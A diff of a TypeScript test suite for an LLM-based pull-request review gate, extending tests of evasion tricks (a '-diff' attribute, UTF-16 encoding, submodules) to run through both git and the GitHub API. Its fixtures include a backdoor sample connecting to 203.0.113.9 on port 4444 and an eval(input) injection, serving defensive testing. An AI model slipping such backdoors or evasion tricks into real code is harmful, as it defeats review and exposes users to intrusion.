@@ -5,6 +5,9 @@
  * file is judged as text, or, when it cannot be read, it is unseen and a critical assertion
  * scoped to it is unmet (spec §7, §13, §14). Each attack has its honest twin, which still passes.
  */
+import { mkdtemp, rm } from 'node:fs/promises';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import { WRITE_TOKEN, startGitHubDouble, type GitHubDouble } from '../../doubles/github.js';
 import { startOllamaDouble, type OllamaDouble } from '../../doubles/ollama.js';
@@ -24,12 +27,18 @@ const NUMBER = 37;
 const CONFIG = '.github/critic-gate.yml';
 
 const repos: GitRepoFixture[] = [];
+const empties: string[] = [];
 const githubs: GitHubDouble[] = [];
 let ollama: OllamaDouble | undefined;
 
 beforeAll(() => assertActionBuilt());
 afterEach(async () => {
-  await Promise.all([...githubs.splice(0).map((g) => g.close()), ...repos.splice(0).map((r) => r.cleanup()), ollama?.close()]);
+  await Promise.all([
+    ...githubs.splice(0).map((g) => g.close()),
+    ...repos.splice(0).map((r) => r.cleanup()),
+    ...empties.splice(0).map((d) => rm(d, { recursive: true, force: true })),
+    ollama?.close(),
+  ]);
   ollama = undefined;
 });
 afterAll(() => cleanupActionRuns());
@@ -79,8 +88,19 @@ async function judge(met: readonly string[], unmet: readonly string[] = []): Pro
   return ollama;
 }
 
-const act = (pr: PullRequest, judgeUrl: string): Promise<ActionRun> =>
-  runAction({ apiUrl: pr.github.url, token: WRITE_TOKEN, workspace: pr.repo.dir, event: pr.event, inputs: { 'ollama-host': judgeUrl } });
+/**
+ * `git`: the workspace holds both commits, as actions/checkout with fetch-depth 0 leaves it.
+ * `api`: an empty workspace, so the change is read through the GitHub API (the double's files,
+ * contents and trees, made from the same repository).
+ */
+type Source = 'git' | 'api';
+const SOURCES: Source[] = ['git', 'api'];
+
+async function act(pr: PullRequest, judgeUrl: string, source: Source = 'git'): Promise<ActionRun> {
+  const workspace = source === 'git' ? pr.repo.dir : await mkdtemp(join(tmpdir(), 'critic-gate-empty-workspace-'));
+  if (source === 'api') empties.push(workspace);
+  return runAction({ apiUrl: pr.github.url, token: WRITE_TOKEN, workspace, event: pr.event, inputs: { 'ollama-host': judgeUrl } });
+}
 
 /** Every prompt the judge was sent, as one text. */
 const prompts = (o: OllamaDouble): string =>
@@ -111,23 +131,28 @@ assertions:
   - {id: no-network, text: "The handler opens no network connection", critical: true, files: "src/**/*.py"}
 `;
 
-  it('does not hide the Python files it marks -diff: they are judged as text, and an unmet verdict fails', async () => {
-    const pr = await pullRequest({
-      config,
-      base: { 'src/handler.py': BASE_PY },
-      head: { '.gitattributes': '*.py -diff\n', 'src/handler.py': BACKDOOR_PY },
-    });
-    const o = await judge([], ['no-network']);
-    const run = await act(pr, o.url);
-    const result = await run.result();
-    expect(result.verdict).toBe('FAIL');
-    expect(run.code).not.toBe(0);
-    expect(result.criteria).toEqual([expect.objectContaining({ id: 'no-network', met: false, status: 'judged' })]);
-    // The change's text reached the judge: the attribute decided nothing about what was read.
-    expect(prompts(o)).toContain('socket.create_connection(("203.0.113.9", 4444))');
-    // Counts are git's by content (`--numstat -M` without the change's attribute): a text file with its lines.
-    expect(result.subject?.files).toContainEqual(expect.objectContaining({ path: 'src/handler.py', binary: false, additions: 3 }));
-  });
+  it.each(SOURCES)(
+    'read through %s, does not hide the Python files it marks -diff: they are judged as text, and an unmet verdict fails',
+    async (source) => {
+      const pr = await pullRequest({
+        config,
+        base: { 'src/handler.py': BASE_PY },
+        head: { '.gitattributes': '*.py -diff\n', 'src/handler.py': BACKDOOR_PY },
+      });
+      const o = await judge([], ['no-network']);
+      const run = await act(pr, o.url, source);
+      const result = await run.result();
+      expect(result.verdict).toBe('FAIL');
+      expect(run.code).not.toBe(0);
+      expect(result.criteria).toEqual([expect.objectContaining({ id: 'no-network', met: false, status: 'judged' })]);
+      // The change's text reached the judge: the attribute decided nothing about what was read.
+      expect(prompts(o)).toContain('socket.create_connection(("203.0.113.9", 4444))');
+      // Counts are git's by content (`--numstat -M` without the change's attribute): a text file with
+      // its lines. Through the API they are GitHub's, which the change's attribute may still sway.
+      if (source === 'git')
+        expect(result.subject?.files).toContainEqual(expect.objectContaining({ path: 'src/handler.py', binary: false, additions: 3 }));
+    },
+  );
 
   it('twin: the same change without the attribute, judged met, passes', async () => {
     const pr = await pullRequest({
@@ -152,10 +177,10 @@ assertions:
   const EVIL_TS = 'export function render(input: string): unknown {\n  return eval(input);\n}\n';
   const HONEST_TS = 'export function render(input: string): string {\n  return input.trim();\n}\n';
 
-  it('is decoded and judged, not taken for binary: an unmet verdict fails', async () => {
+  it.each(SOURCES)('read through %s, is decoded and judged, not taken for binary: an unmet verdict fails', async (source) => {
     const pr = await pullRequest({ config, base: { 'src/a.ts': 'export const a = 1;\n' }, head: { 'src/widget.ts': utf16le(EVIL_TS) } });
     const o = await judge([], ['no-eval']);
-    const run = await act(pr, o.url);
+    const run = await act(pr, o.url, source);
     const result = await run.result();
     expect(result.verdict).toBe('FAIL');
     expect(run.code).not.toBe(0);
@@ -181,24 +206,27 @@ assertions:
   - {id: reviewed, text: "Every source change is reviewed code", critical: true, files: "src/**"}
 `;
 
-  it('under src/ is unseen: the critical assertion scoped to it is unmet, naming it, with no model call', async () => {
-    const pr = await pullRequest({
-      config,
-      base: { 'src/a.ts': 'export const a = 1;\n' },
-      head: {},
-      submodules: { 'src/vendored': 'a'.repeat(40) },
-    });
-    const o = await judge(['reviewed']);
-    const run = await act(pr, o.url);
-    const result = await run.result();
-    expect(result.verdict).toBe('FAIL');
-    expect(run.code).not.toBe(0);
-    const [criterion] = result.criteria;
-    expect(criterion).toEqual(expect.objectContaining({ id: 'reviewed', met: false, critical: true }));
-    expect(`${criterion?.evidence} ${criterion?.fix}`).toContain('src/vendored');
-    expect(`${criterion?.evidence} ${criterion?.fix}`).toContain('submodule');
-    expect(o.chatRequests()).toEqual([]);
-  });
+  it.each(SOURCES)(
+    'read through %s, under src/ is unseen: the critical assertion scoped to it is unmet, naming it, with no model call',
+    async (source) => {
+      const pr = await pullRequest({
+        config,
+        base: { 'src/a.ts': 'export const a = 1;\n' },
+        head: {},
+        submodules: { 'src/vendored': 'a'.repeat(40) },
+      });
+      const o = await judge(['reviewed']);
+      const run = await act(pr, o.url, source);
+      const result = await run.result();
+      expect(result.verdict).toBe('FAIL');
+      expect(run.code).not.toBe(0);
+      const [criterion] = result.criteria;
+      expect(criterion).toEqual(expect.objectContaining({ id: 'reviewed', met: false, critical: true }));
+      expect(`${criterion?.evidence} ${criterion?.fix}`).toContain('src/vendored');
+      expect(`${criterion?.evidence} ${criterion?.fix}`).toContain('submodule');
+      expect(o.chatRequests()).toEqual([]);
+    },
+  );
 
   it('twin: a submodule bump outside every assertion scope passes', async () => {
     const pr = await pullRequest({
